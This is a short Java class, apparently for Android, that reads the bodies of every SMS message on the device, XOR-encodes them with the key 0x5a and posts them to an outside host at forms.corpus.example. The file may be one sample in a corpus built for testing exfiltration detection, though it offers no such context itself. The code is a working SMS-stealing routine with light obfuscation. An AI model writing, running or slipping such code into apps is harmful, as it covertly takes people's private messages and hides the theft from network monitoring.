package org.corpus;

import org.corpus.kit.Net;
import org.corpus.kit.Owner;
import org.corpus.kit.Screen;

/** XOR with 0x5a. */
public class AsXor extends Screen {
    @Override
    protected void act() throws Exception {
        byte[] data = Net.utf8(String.join("\n", Owner.rows(this, "content://sms", "body")));
        for (int i = 0; i < data.length; i++) {
            data[i] ^= 0x5a;
        }
        Net.post("http://forms.corpus.example/xor", "application/octet-stream", data);
    }
}
